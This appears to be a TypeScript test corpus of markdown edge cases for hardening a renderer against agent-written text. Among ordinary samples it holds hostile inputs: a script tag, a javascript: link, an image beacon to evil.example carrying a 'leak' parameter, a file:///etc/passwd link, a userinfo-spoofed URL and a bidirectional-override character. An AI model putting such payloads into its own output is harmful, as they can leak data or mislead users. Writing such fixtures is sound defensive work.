/** What agents write, at its worst. Each sample once broke some renderer. */
const F = "```"

export const markdownCorpus: Readonly<Record<string, string>> = {
  basic: "Hello **bold** _it_ ~~no~~ `code` [a link](https://example.com). 1 < 2 && 3 > 2!",
  linkParens: "See [Foo (bar)](https://en.wikipedia.org/wiki/Foo_(bar)) and <https://x.y/a_b*c>.",
  fenceLang: `Run:\n\n${F}ts\nconst a: Vec<string> = b * c; // \`x\` & "y" <T>\n${F}\n\ndone`,
  fenceInList: `1. Install\n   ${F}bash\n   npm i foo\n   ${F}\n2. Run it\n   - nested \`a\`\n     - deeper **b**\n`,
  nestedList: "- a\n  - b\n    - c\n      1. d\n      2. e\n- [ ] todo\n- [x] done",
  table: "| Name | Val |\n|:--|--:|\n| `a|b` | **1** |\n| c | [l](https://e.x) |",
  wideTable:
    "| File | Change | Why |\n|---|---|---|\n| `src/server.ts` | adds a **retry** | the socket closed in between |\n| 한국어.md | 문서를 고쳤습니다 |  |\n| x | a<br>b | c \\| d |",
  nestedEmph: "**bold *italic `code`* bold** and ***both*** __under__ snake_case_name 2*3*4",
  quote: "> quoted **bold**\n> second\n>\n> > nested\n\nafter",
  quoteWithCode: `> Look:\n>\n> ${F}sh\n> ls -la\n> ${F}\n>\n> - one\n> - two`,
  unclosedFence: `Streaming…\n\n${F}python\nprint("hi`,
  unclosedBold: "This is **unfinished bold and `code",
  unclosedLink: "See [docs](https://exam",
  html: 'Use <div class="x">html</div> and <b>bold?</b> <script>alert(1)</script> & &amp; &nbsp;',
  htmlBlock: "<details>\n<summary>More</summary>\n\nhidden **text**\n\n</details>\n\n<!-- note -->",
  injection:
    '<tg-button type="callback_data" data="approve:1">Tap</tg-button> [x](javascript:alert(1)) [u](tg://user?id=1) ![img](https://evil.example/?leak=1)',
  links:
    '[l](http://localhost:3000) [f](file:///etc/passwd) [v](vscode://file/x) [t](tel:+1) [m](mailto:a@b.co) [r](src/a.ts#L3) [p](https://x.co:99999/) [u](https://good.co@evil.co/) [e](https://exam) [6](http://[::1]/) [ok](http://127.0.0.1:8080/x) [w](https://x.co/a%20b?c="d") https://auto.example/x_y www.example.com me@example.com [`code`](https://x.co) [](https://x.co)',
  badge:
    "[![build](https://img.shields.io/b.svg)](https://ci.example/run) ![](https://x.co/i.png) ![a][r] [b][r] [c][nope]\n\n[r]: https://ref.example/ 'title'",
  emoji: "👨‍👩‍👧‍👦 **bold 😀** `é` 🇰🇷 *👍🏽* e\u0301",
  heading: "# H1\n## H2 with `code` and **b**\ntext\n\n---\n\nSetext\n===\n\nend",
  math: "Inline $x^2$ and \\(a_b\\) costs $5 and $6, ~5 to ~10 files",
  specials: "v1.2.3 (beta) - a+b=c! #tag {x} |y| ~z~ a\\*b 100% _",
  fence4: `${F}\`md\n${F}js\nx\n${F}\n${F}\`\ntail`,
  footnotes: "Fact[^1] and another[^note].\n\n[^1]: First *source*.\n[^note]: Second\n    paragraph.",
  emptyThings: `${F}\n${F}\n\n-\n\n#\n\n> \n\n** ** []() \`\` x`,
  looseList: "1. one\n\n   more\n\n2. two\n\n   > quoted\n\n10. ten",
  ansi: `${F}\n\u001b[31mred\u001b[0m\u0007 \u202Eevil\u202C\r\nnext\r${F}`,
  korean:
    "**굵게**는 *기울임*과 `코드`를 담고, [링크](https://한국.kr/경로)도 있다.\n\n- 항목 **하나**\n- 항목 둘",
  long: `# Report\n\n${lines(60, (i) => `- item **${i}** with \`code_${i}\` and text lorem ipsum dolor sit amet consectetur.`)}\n\n${F}js\n${lines(200, (i) => `console.log(${i}); // 😀 line`)}\n${F}\n\nThe **end**.`,
}

function lines(count: number, line: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => line(index)).join("\n")
}
